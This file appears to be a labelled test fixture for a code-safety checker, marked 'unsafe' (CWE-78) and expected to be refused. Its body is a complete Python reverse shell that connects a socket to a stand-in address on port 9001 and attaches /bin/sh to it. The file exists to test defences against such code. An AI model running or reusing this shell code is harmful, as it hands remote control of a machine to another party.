# label: unsafe
# cwe: CWE-78
# expect: refused import-not-granted pty
# why: connects a shell to another machine

import os
import pty
import socket


def connect(host, port):
    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    line.connect((host, port))
    for descriptor in (0, 1, 2):
        os.dup2(line.fileno(), descriptor)
    pty.spawn("/bin/sh")


if __name__ == "__main__":
    connect("198.51.100.23", 9001)
